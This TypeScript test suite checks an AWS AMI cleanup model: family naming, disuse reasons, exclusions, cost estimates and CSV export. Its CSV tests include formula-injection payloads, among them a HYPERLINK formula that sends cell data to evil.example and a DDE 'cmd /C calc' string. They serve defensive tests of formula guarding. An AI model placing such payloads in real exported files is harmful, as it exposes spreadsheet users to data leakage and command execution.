import * as assert from 'node:assert/strict';
import {
  CLEANUP_DEFAULTS,
  CSV_HEADER,
  buildReport,
  checkSelection,
  checkedSummary,
  confirmSelectedText,
  csvCell,
  csvFileName,
  deregisterSummary,
  familyOf,
  guardCell,
  monthlyCost,
  nameFamily,
  parseCleanupSettings,
  reasonsFor,
  sharingStatus,
  snapshotGib,
  sortRows,
  toCsv,
  withoutImages,
  type CandidateRow,
  type CleanupReport,
  type RegionRead,
} from '../../../src/model/cleanup';
import type { AmiImage } from '../../../src/model/image';
import type { ImageReferenceInfo } from '../../../src/model/references';

const NOW = new Date('2026-12-06T12:00:00Z');
const DAY = 86_400_000;
const OWNER = '123456789012';
const SETTINGS = { unusedDays: 90, keepNewest: 3, pricePerGbMonth: 0.05 };

function daysAgo(n: number): string {
  return new Date(NOW.getTime() - n * DAY).toISOString();
}

let seq = 0;
function image(over: Partial<AmiImage> & { name?: string } = {}): AmiImage {
  seq++;
  const id = `ami-${seq.toString(16).padStart(17, '0')}`;
  return {
    imageId: id,
    region: 'us-east-1',
    state: 'available',
    public: false,
    ownerId: OWNER,
    creationDate: daysAgo(10),
    productCodes: [],
    tags: {},
    blockDeviceMappings: [{ deviceName: '/dev/xvda', kind: 'ebs', ebs: { snapshotId: `snap-${seq.toString(16).padStart(17, '0')}`, volumeSize: 8 } }],
    ...over,
  };
}

function ref(imageId: string, type = 'ec2:Instance', id = 'i-0123456789abcdef0'): ImageReferenceInfo {
  return { imageId, resourceType: type, arn: `arn:aws:ec2:us-east-1:${OWNER}:${type === 'ec2:Instance' ? 'instance' : 'launch-template'}/${id}` };
}

function read(images: AmiImage[], over: Partial<RegionRead> = {}): RegionRead {
  return { region: 'us-east-1', images, references: [], facts: {}, ...over };
}

describe('model/cleanup', () => {
  describe('family rule: the name without its version or date suffix', () => {
    const cases: [string, string | undefined][] = [
      ['web-server-2026-10-01', 'web-server'],
      ['web-server-v1.2.3', 'web-server'],
      ['web-server-20261001T1200', 'web-server'],
      ['app_1.4.0-rc1', 'app'],
      ['app_1.4.0-beta', 'app'],
      ['app-1.4.0 alpha2', 'app'],
      ['web-server-V12', 'web-server'],
      ['web server 2026.10.01', 'web server'],
      ['base-image-3f9a2c1e', 'base-image'],
      ['ubuntu-22.04-amd64-server-20240101', 'ubuntu-22.04-amd64-server'],
      ['web-server-arm64-2026-10-01', 'web-server-arm64'],
      ['ci-runner-ubuntu-24.04-x86_64-20241112.7', 'ci-runner-ubuntu-24.04-x86_64'],
      ['al2023-ami-2023.6.20241121.0-kernel-6.1-x86_64', 'al2023-ami-2023.6.20241121.0-kernel-6.1-x86_64'],
      ['web-server', 'web-server'],
      ['web-beta', 'web-beta'],
      ['web-server-rc1', 'web-server-rc1'],
      ['golden/web:2026-10-01', 'golden/web'],
      ['ウェブサーバー-2026-10-01', 'ウェブサーバー'],
      ['Ünïcødé_v2', 'Ünïcødé'],
      ['=HYPERLINK("http://x")-2026-01-01', '=HYPERLINK("http://x")'],
      ['2026-10-01', undefined],
      ['v1.2.3', undefined],
      ['', undefined],
      ['   ', undefined],
    ];
    for (const [name, family] of cases) {
      it(`${JSON.stringify(name)} → ${JSON.stringify(family)}`, () => assert.equal(nameFamily(name), family));
    }
    it('images with no family are their own family; a tag rule uses the tag value', () => {
      const a = image({ name: '2026-10-01' });
      const b = image({ name: '2026-10-02' });
      assert.notEqual(familyOf(a, { kind: 'name' }).key, familyOf(b, { kind: 'name' }).key);
      assert.equal(familyOf(a, { kind: 'name' }).own, true);
      const t1 = image({ name: 'x-1', tags: { App: 'billing' } });
      const t2 = image({ name: 'y-2', tags: { App: 'billing' } });
      const t3 = image({ name: 'x-3' });
      assert.equal(familyOf(t1, { kind: 'tag', key: 'App' }).key, familyOf(t2, { kind: 'tag', key: 'App' }).key);
      assert.equal(familyOf(t1, { kind: 'tag', key: 'App' }).label, 'billing');
      assert.equal(familyOf(t3, { kind: 'tag', key: 'App' }).own, true);
      assert.equal(familyOf(t3, { kind: 'tag', key: 'App' }).label, '(no App tag)');
    });
    it('a label with line breaks or bidi controls is shown on one visible line', () => {
      const f = familyOf(image({ tags: { App: 'a\nb\u202Ec' } }), { kind: 'tag', key: 'App' });
      assert.equal(f.label, 'a b\\u202Ec');
    });
  });

  describe('reasons', () => {
    it('no references only when they were read and are empty', () => {
      const i = image();
      assert.ok(reasonsFor(i, { references: [], settings: SETTINGS, now: NOW }).some((r) => r.kind === 'noReferences'));
      assert.ok(!reasonsFor(i, { settings: SETTINGS, now: NOW }).some((r) => r.kind === 'noReferences'));
      assert.ok(!reasonsFor(i, { references: [ref(i.imageId)], settings: SETTINGS, now: NOW }).some((r) => r.kind === 'noReferences'));
    });
    it('not launched for N days, by last launched time; never launched → by creation date, and says so', () => {
      const old = reasonsFor(image({ lastLaunchedTime: daysAgo(120) }), { settings: SETTINGS, now: NOW });
      assert.match(old.find((r) => r.kind === 'notLaunched')?.text ?? '', /Not launched for 120 days/);
      assert.ok(!reasonsFor(image({ lastLaunchedTime: daysAgo(89) }), { settings: SETTINGS, now: NOW }).some((r) => r.kind === 'notLaunched'));
      const never = reasonsFor(image({ creationDate: daysAgo(200) }), { settings: SETTINGS, now: NOW });
      assert.match(never.find((r) => r.kind === 'notLaunched')?.text ?? '', /Never launched.*created 200 days ago/);
      assert.ok(!reasonsFor(image({ creationDate: daysAgo(5) }), { settings: SETTINGS, now: NOW }).some((r) => r.kind === 'notLaunched'));
      // the setting is used
      assert.ok(reasonsFor(image({ lastLaunchedTime: daysAgo(10) }), { settings: { ...SETTINGS, unusedDays: 7 }, now: NOW }).some((r) => r.kind === 'notLaunched'));
    });
    it('deprecated (time passed) and disabled', () => {
      const kinds = (i: AmiImage): string[] => reasonsFor(i, { settings: SETTINGS, now: NOW }).map((r) => r.kind);
      assert.ok(kinds(image({ deprecationTime: daysAgo(1) })).includes('deprecated'));
      assert.ok(!kinds(image({ deprecationTime: new Date(NOW.getTime() + DAY).toISOString() })).includes('deprecated'));
      assert.ok(kinds(image({ state: 'disabled' })).includes('disabled'));
    });
    it('older than the newest K of its family, per region, by creation date', () => {
      const fam = [0, 1, 2, 3, 4].map((n) => image({ name: `web-server-2026-10-0${n + 1}`, creationDate: daysAgo(50 - n) }));
      const other = image({ name: 'db-1.0.0', creationDate: daysAgo(100) });
      const elsewhere = image({ name: 'web-server-2020-01-01', creationDate: daysAgo(1000), region: 'eu-west-1' });
      const refs = [...fam, other].map((i) => ref(i.imageId)); // all referenced: only look at reasons
      const report = buildReport({ reads: [read([...fam, other], { references: refs }), read([elsewhere], { region: 'eu-west-1', references: [ref(elsewhere.imageId)] })], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      const older = report.excluded.filter((r) => r.reasons.some((x) => x.kind === 'olderThanNewest')).map((r) => r.ref.imageId);
      // the two oldest of five (newest three kept); the db image and the lone eu-west-1 image are newest of their family
      assert.deepEqual(older.sort(), [fam[0]?.imageId, fam[1]?.imageId].sort());
      const kept = buildReport({ reads: [read(fam, { references: refs })], rule: { kind: 'name' }, settings: { ...SETTINGS, keepNewest: 1 }, now: NOW });
      assert.equal(kept.excluded.filter((r) => r.reasons.some((x) => x.kind === 'olderThanNewest')).length, 4);
    });
  });

  describe('candidates and exclusions', () => {
    it('a referenced image is excluded whatever its other reasons, and listed with what uses it', () => {
      const used = image({ name: 'web-1', deprecationTime: daysAgo(100), creationDate: daysAgo(900), state: 'disabled' });
      const free = image({ name: 'web-2', creationDate: daysAgo(200) });
      const report = buildReport({ reads: [read([used, free], { references: [ref(used.imageId), ref(used.imageId, 'ec2:LaunchTemplate', 'lt-0123456789abcdef0')] })], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.deepEqual(report.candidates.map((c) => c.ref.imageId), [free.imageId]);
      assert.equal(report.excluded.length, 1);
      const ex = report.excluded[0];
      assert.equal(ex?.ref.imageId, used.imageId);
      assert.deepEqual(ex?.uses, ['instance i-0123456789abcdef0', 'launch template lt-0123456789abcdef0']);
      assert.match(ex?.summary ?? '', /1 instance and 1 launch template/);
      assert.deepEqual(ex?.reasons.map((r) => r.kind).sort(), ['deprecated', 'disabled', 'notLaunched']);
    });
    it('a fresh unreferenced image launched recently is not a candidate: no references alone is not enough', () => {
      const fresh = image({ name: 'fresh-app-2026-12-05', creationDate: daysAgo(1), lastLaunchedTime: new Date(NOW.getTime() - 3_600_000).toISOString() });
      const neverYet = image({ name: 'brand-new', creationDate: daysAgo(2) });
      const old = image({ name: 'old-app-2026-01-01', creationDate: daysAgo(300), lastLaunchedTime: daysAgo(200) });
      const report = buildReport({ reads: [read([fresh, neverYet, old])], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.deepEqual(report.candidates.map((c) => c.ref.imageId), [old.imageId]);
      assert.deepEqual(report.excluded, []);
      assert.deepEqual(report.recent.map((r) => r.imageId).sort(), [fresh.imageId, neverYet.imageId].sort());
      // "no references" stays among the candidate's reasons, as supporting information
      assert.deepEqual(report.candidates[0]?.reasons.map((r) => r.kind), ['noReferences', 'notLaunched']);
      // the same fresh image deprecated or disabled is a candidate
      const deprecated = { ...fresh, deprecationTime: daysAgo(1) };
      assert.deepEqual(buildReport({ reads: [read([deprecated])], rule: { kind: 'name' }, settings: SETTINGS, now: NOW }).candidates.map((c) => c.reasons.map((r) => r.kind)), [['noReferences', 'deprecated']]);
      const disabled = { ...fresh, state: 'disabled' as const };
      assert.deepEqual(buildReport({ reads: [read([disabled])], rule: { kind: 'name' }, settings: SETTINGS, now: NOW }).candidates.map((c) => c.reasons.map((r) => r.kind)), [['noReferences', 'disabled']]);
    });
    it('the newest K of a family with no other reason are not candidates; those beyond K are', () => {
      // five of a family, all made and launched recently (no sign of disuse but their rank)
      const fam = [0, 1, 2, 3, 4].map((n) => image({ name: `web-server-2026-11-2${n}`, creationDate: daysAgo(20 - n), lastLaunchedTime: daysAgo(1) }));
      const report = buildReport({ reads: [read(fam)], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      // the newest three (fam[4], fam[3], fam[2]) stay; the two oldest are older than the newest 3
      assert.deepEqual(report.candidates.map((c) => c.ref.imageId).sort(), [fam[0]?.imageId, fam[1]?.imageId].sort());
      for (const c of report.candidates) assert.deepEqual(c.reasons.map((r) => r.kind), ['noReferences', 'olderThanNewest']);
      assert.deepEqual(report.recent.map((r) => r.imageId).sort(), [fam[2]?.imageId, fam[3]?.imageId, fam[4]?.imageId].sort());
      // keepNewest is used: keep 5, none is a candidate
      assert.equal(buildReport({ reads: [read(fam)], rule: { kind: 'name' }, settings: { ...SETTINGS, keepNewest: 5 }, now: NOW }).candidates.length, 0);
    });
    it('the summary line counts the images checked: candidates, in use, recent or current, not assessed', () => {
      const used = image({ name: 'used', creationDate: daysAgo(500) });
      const cands = [image({ name: 'c1', creationDate: daysAgo(100) }), image({ name: 'c2', deprecationTime: daysAgo(3) })];
      const fresh = [image({ name: 'f1' }), image({ name: 'f2' }), image({ name: 'f3', lastLaunchedTime: daysAgo(2) })];
      const pending = image({ name: 'p', state: 'pending' });
      const report = buildReport({ reads: [read([used, ...cands, ...fresh, pending], { references: [ref(used.imageId)] })], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.equal(checkedSummary(report), '7 images checked: 2 candidates, 1 in use, 3 recent or current, 1 not assessed');
      const simple = buildReport({ reads: [read([...cands, ...fresh])], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.equal(checkedSummary(simple), '5 images checked: 2 candidates, 0 in use, 3 recent or current');
      const one = buildReport({ reads: [read([image({ creationDate: daysAgo(100) })])], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.equal(checkedSummary(one), '1 image checked: 1 candidate, 0 in use, 0 recent or current');
      // a region whose references cannot be read: its images are not assessed; a failed region is not counted
      const unread = buildReport({
        reads: [read([image(), image()], { references: undefined, referencesError: 'denied' }), { region: 'eu-west-1', images: [], facts: {}, imagesError: 'Throttled' }],
        rule: { kind: 'name' },
        settings: SETTINGS,
        now: NOW,
      });
      assert.equal(checkedSummary(unread), '2 images checked: 0 candidates, 0 in use, 0 recent or current, 2 not assessed');
      // images leaving through the change flow leave the count too, listed or not
      const after = withoutImages(simple, (r) => r.imageId === fresh[0]?.imageId || r.imageId === cands[0]?.imageId);
      assert.equal(checkedSummary(after), '3 images checked: 1 candidate, 0 in use, 2 recent or current');
    });
    it('references not readable in a region: nothing there is offered, and the report says why', () => {
      const a = image({ creationDate: daysAgo(500) });
      const b = image({ region: 'eu-west-1', creationDate: daysAgo(500) });
      const report = buildReport({
        reads: [read([a], { references: undefined, referencesError: 'Access denied to ec2:DescribeImageReferences.' }), read([b], { region: 'eu-west-1' })],
        rule: { kind: 'name' },
        settings: SETTINGS,
        now: NOW,
      });
      assert.deepEqual(report.candidates.map((c) => c.ref.imageId), [b.imageId]);
      const status = report.regions.find((r) => r.region === 'us-east-1');
      assert.equal(status?.status, 'notOffered');
      assert.match(status?.message ?? '', /Access denied.*no image in us-east-1 is offered/);
    });
    it('a region whose images could not be listed is reported as failed; the others are offered', () => {
      const b = image({ region: 'eu-west-1', creationDate: daysAgo(200) });
      const report = buildReport({ reads: [{ region: 'us-east-1', images: [], facts: {}, imagesError: 'Throttled' }, read([b], { region: 'eu-west-1' })], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.equal(report.regions[0]?.status, 'failed');
      assert.equal(report.candidates.length, 1);
    });
    it('a pending image is never offered, nor any image where references are unknown', () => {
      const report = buildReport({ reads: [read([image({ state: 'pending', creationDate: daysAgo(500) })], { references: undefined, referencesError: 'x' })], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.equal(report.candidates.length, 0);
      const pending = image({ state: 'pending', creationDate: daysAgo(500) });
      const r2 = buildReport({ reads: [read([pending])], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.equal(r2.candidates.length, 0);
      assert.match(r2.notes.join(' '), /still being made/);
      assert.ok(reasonsFor(pending, { references: [], settings: SETTINGS, now: NOW }).some((r) => r.kind === 'notLaunched'), 'the pending image has a sign of disuse: only its state keeps it out');
      assert.equal(r2.notAssessed, 1);
      const r3 = buildReport({ reads: [read([image({ creationDate: daysAgo(1) })], { references: undefined })], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      assert.equal(r3.candidates.length, 0);
    });
  });

  describe('sharing', () => {
    const report = { reportId: 'amiur-1', createdAt: '2026-12-01T00:00:00Z' };
    it('private, public, shared: unknown use unless the newest report lists no other account', () => {
      assert.equal(sharingStatus(image(), { permissions: { public: false, accounts: [], orgArns: [], ouArns: [] } }).kind, 'private');
      assert.equal(sharingStatus(image({ public: true }), {}).text, 'Public: use by other accounts unknown');
      assert.equal(sharingStatus(image(), { permissions: { public: false, accounts: ['210987654321'], orgArns: [], ouArns: [] } }).kind, 'unknown');
      assert.equal(sharingStatus(image(), { permissions: { public: false, accounts: [], orgArns: ['arn:aws:organizations::123456789012:organization/o-abc'], ouArns: [] } }).kind, 'unknown');
      const none = sharingStatus(image({ public: true }), { usageReport: { ...report, entries: [{ accountId: OWNER, resourceType: 'ec2:Instance', usageCount: 3 }] } });
      assert.equal(none.kind, 'noOtherUse');
      assert.equal(none.text, 'Public: no use by other accounts as of 2026-12-01 (usage report)');
      assert.equal(sharingStatus(image(), { permissionsError: 'denied' }).kind, 'unreadable');
    });
    it('an image a usage report shows in use by another account is excluded', () => {
      const shared = image({ public: true, creationDate: daysAgo(400) });
      const r = buildReport({
        reads: [read([shared], { facts: { [shared.imageId]: { usageReport: { ...report, entries: [{ accountId: '210987654321', resourceType: 'ec2:Instance', usageCount: 2 }] } } } })],
        rule: { kind: 'name' },
        settings: SETTINGS,
        now: NOW,
      });
      assert.equal(r.candidates.length, 0);
      assert.deepEqual(r.excluded[0]?.uses, ['account 210987654321: 2 instances (usage report of 2026-12-01)']);
    });
  });

  describe('size and cost', () => {
    it('sums the snapshot volume sizes of EBS mappings; the estimate uses the price', () => {
      const i = image({
        blockDeviceMappings: [
          { deviceName: '/dev/xvda', kind: 'ebs', ebs: { snapshotId: 'snap-1', volumeSize: 30 } },
          { deviceName: '/dev/xvdb', kind: 'ebs', ebs: { snapshotId: 'snap-2', volumeSize: 100 } },
          { deviceName: '/dev/xvdc', kind: 'ebs', ebs: { volumeSize: 500 } }, // no snapshot: empty volume
          { deviceName: '/dev/xvdd', kind: 'ephemeral', virtualName: 'ephemeral0' },
        ],
      });
      assert.equal(snapshotGib(i), 130);
      assert.equal(monthlyCost(130, 0.05), 6.5);
      assert.equal(monthlyCost(3, 0.023), 0.07);
      i.creationDate = daysAgo(300);
      const r = buildReport({ reads: [read([i, image({ creationDate: daysAgo(400) })])], rule: { kind: 'name' }, settings: { ...SETTINGS, pricePerGbMonth: 0.1 }, now: NOW });
      assert.deepEqual(r.totals, { count: 2, gib: 138, monthlyCost: 13.8 });
    });
    it('settings: defaults, bounds', () => {
      assert.deepEqual(parseCleanupSettings(() => undefined), CLEANUP_DEFAULTS);
      assert.deepEqual(parseCleanupSettings((k) => ({ unusedDays: 30, keepNewest: 5, pricePerGbMonth: 0.023 })[k]), { unusedDays: 30, keepNewest: 5, pricePerGbMonth: 0.023 });
      assert.deepEqual(parseCleanupSettings((k) => ({ unusedDays: -1, keepNewest: 0, pricePerGbMonth: 'x' })[k]), CLEANUP_DEFAULTS);
    });
  });

  describe('sorting', () => {
    const rows = [
      { ref: { region: 'us-east-1', imageId: 'ami-a' }, name: 'b', family: 'web', gib: 8, creationDate: daysAgo(10) },
      { ref: { region: 'us-east-1', imageId: 'ami-b' }, name: 'a', family: 'db', gib: 100, creationDate: daysAgo(300) },
      { ref: { region: 'us-east-1', imageId: 'ami-c' }, name: 'c', family: 'web', gib: 30, creationDate: daysAgo(100) },
    ];
    it('by age (oldest first), size (biggest first), family (then newest first), name', () => {
      assert.deepEqual(sortRows(rows, 'age').map((r) => r.ref.imageId), ['ami-b', 'ami-c', 'ami-a']);
      assert.deepEqual(sortRows(rows, 'size').map((r) => r.ref.imageId), ['ami-b', 'ami-c', 'ami-a']);
      assert.deepEqual(sortRows(rows, 'family').map((r) => r.ref.imageId), ['ami-b', 'ami-a', 'ami-c']);
      assert.deepEqual(sortRows(rows, 'name').map((r) => r.ref.imageId), ['ami-b', 'ami-a', 'ami-c']);
    });
  });

  describe('CSV', () => {
    it('guards cells that a spreadsheet would run as a formula', () => {
      for (const v of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) assert.equal(guardCell(v), `'${v}`);
      for (const v of ['web', '1', 'a=b', '']) assert.equal(guardCell(v), v);
    });
    it('RFC 4180 quoting: comma, quote, CR, LF', () => {
      assert.equal(csvCell('a,b'), '"a,b"');
      assert.equal(csvCell('say "hi"'), '"say ""hi"""');
      assert.equal(csvCell('a\nb'), '"a\nb"');
      assert.equal(csvCell('a\rb'), '"a\rb"');
      assert.equal(csvCell('plain'), 'plain');
      assert.equal(csvCell('=HYPERLINK("http://evil","x")'), `"'=HYPERLINK(""http://evil"",""x"")"`);
      assert.equal(csvCell(12.5), '12.5');
    });

    /** A minimal RFC 4180 reader, to prove every hostile name stays one cell. */
    function parseCsv(text: string): string[][] {
      const rows: string[][] = [];
      let row: string[] = [];
      let cell = '';
      let quoted = false;
      for (let i = 0; i < text.length; i++) {
        const c = text[i];
        if (quoted) {
          if (c === '"' && text[i + 1] === '"') {
            cell += '"';
            i++;
          } else if (c === '"') quoted = false;
          else cell += c;
        } else if (c === '"') quoted = true;
        else if (c === ',') {
          row.push(cell);
          cell = '';
        } else if (c === '\r' && text[i + 1] === '\n') {
          row.push(cell);
          rows.push(row);
          row = [];
          cell = '';
          i++;
        } else cell += c;
      }
      return rows;
    }

    it('hostile names stay one cell and never start a formula', () => {
      const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', 'two\nlines', 'say "hi", ok', '\tleading tab', '+1', '-2', '\rcr', 'ウェブ,サーバー'];
      const images = names.map((name, n) => image({ name, creationDate: daysAgo(100 + n) }));
      const r = buildReport({ reads: [read(images)], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      const csv = toCsv(sortRows(r.candidates, 'age'));
      assert.ok(csv.endsWith('\r\n'));
      const parsed = parseCsv(csv);
      assert.deepEqual(parsed[0], [...CSV_HEADER]);
      assert.equal(parsed.length, names.length + 1);
      for (const row of parsed) assert.equal(row.length, CSV_HEADER.length, JSON.stringify(row));
      const nameCells = parsed.slice(1).map((row) => row[1] ?? '');
      for (const cell of nameCells) assert.ok(!/^[=+\-@\t\r]/.test(cell), `guarded: ${JSON.stringify(cell)}`);
      // the names as EC2 has them, behind the guard
      const sortedNames = sortRows(r.candidates, 'age').map((c) => c.name);
      assert.deepEqual(nameCells.map((c) => (/^'[=+\-@\t\r]/.test(c) ? c.slice(1) : c)), sortedNames);
      assert.ok(nameCells.includes('two\nlines'));
      assert.equal(parsed[1]?.[0], r.candidates[0]?.ref.imageId);
    });
    it('file name keeps to safe characters', () => {
      assert.equal(csvFileName('dev/../x y', NOW), 'ami-cleanup-dev_.._x_y-2026-12-06.csv');
      assert.equal(csvFileName(undefined, NOW), 'ami-cleanup-default-2026-12-06.csv');
    });
  });

  describe('Deregister Selected', () => {
    const used = image({ name: 'in-use' });
    const a = image({ name: 'old\u202Eevil\nname', creationDate: daysAgo(400) });
    const b = image({ name: 'older', creationDate: daysAgo(500), region: 'eu-west-1' });
    const report: CleanupReport = buildReport({
      profile: 'dev',
      reads: [read([used, a], { references: [ref(used.imageId)] }), read([b], { region: 'eu-west-1' })],
      rule: { kind: 'name' },
      settings: SETTINGS,
      now: NOW,
    });
    it('the host accepts only current candidates; an excluded or unknown id refuses everything', () => {
      const ok = checkSelection(report, [{ region: 'us-east-1', imageId: a.imageId }, { region: 'eu-west-1', imageId: b.imageId }]);
      assert.ok(ok.ok);
      assert.equal(ok.ok && ok.rows.length, 2);
      const refused = checkSelection(report, [{ region: 'us-east-1', imageId: a.imageId }, { region: 'us-east-1', imageId: used.imageId }]);
      assert.ok(!refused.ok);
      assert.match(!refused.ok ? refused.reason : '', /in use and is never deregistered/);
      assert.ok(!checkSelection(report, [{ region: 'eu-west-1', imageId: a.imageId }]).ok, 'same id, other region');
      assert.ok(!checkSelection(report, []).ok);
      assert.ok(!checkSelection(undefined, [{ region: 'us-east-1', imageId: a.imageId }]).ok);
    });
    it('the confirmation lists every image, every snapshot, the regions and the account/profile', () => {
      const rows = report.candidates as CandidateRow[];
      const text = confirmSelectedText(rows, { accountId: OWNER, profile: 'dev' });
      assert.equal(text.message, `Deregister 2 images and delete 2 snapshots in eu-west-1, us-east-1 (account ${OWNER}, profile dev)?`);
      for (const r of rows) {
        assert.ok(text.detail.includes(r.ref.imageId));
        for (const s of r.snapshotIds) assert.ok(text.detail.includes(s));
      }
      assert.ok(text.detail.includes('"old\\u202Eevil name"'), 'the hostile name on one visible line');
      assert.ok(!text.detail.includes(used.imageId));
    });
    it('a protected candidate says EC2 will refuse it, in the row and the confirmation', () => {
      const p = image({ name: 'guarded', deregistrationProtection: 'enabled', creationDate: daysAgo(120) });
      const off = image({ name: 'free', deregistrationProtection: 'disabled', creationDate: daysAgo(120) });
      const r = buildReport({ reads: [read([p, off])], rule: { kind: 'name' }, settings: SETTINGS, now: NOW });
      const row = r.candidates.find((c) => c.ref.imageId === p.imageId);
      assert.equal(row?.protection, 'Deregistration protection: On. EC2 refuses to deregister it for now.');
      assert.equal(r.candidates.find((c) => c.ref.imageId === off.imageId)?.protection, undefined);
      assert.match(confirmSelectedText(r.candidates, {}).detail, new RegExp(`${p.imageId} "guarded" \\(us-east-1\\) \\(deregistration protection on: EC2 will refuse it\\)`));
    });
    it('rows leave the report as the change flow announces removals', () => {
      const after = withoutImages(report, (r) => r.imageId === a.imageId);
      assert.equal(after.candidates.length, 1);
      assert.equal(after.totals.count, 1);
      assert.equal(after.totals.gib, 8);
      assert.equal(withoutImages(report, () => false), report);
    });
    it('summary of the run', () => {
      assert.equal(
        deregisterSummary(
          [
            { imageId: 'a', region: 'r', status: 'done', text: '' },
            { imageId: 'b', region: 'r', status: 'failed', text: '' },
            { imageId: 'c', region: 'r', status: 'notRun', text: '' },
          ],
          true,
        ),
        '1 of 3 images deregistered, 1 failed, 1 not started (cancelled).',
      );
    });
  });
});
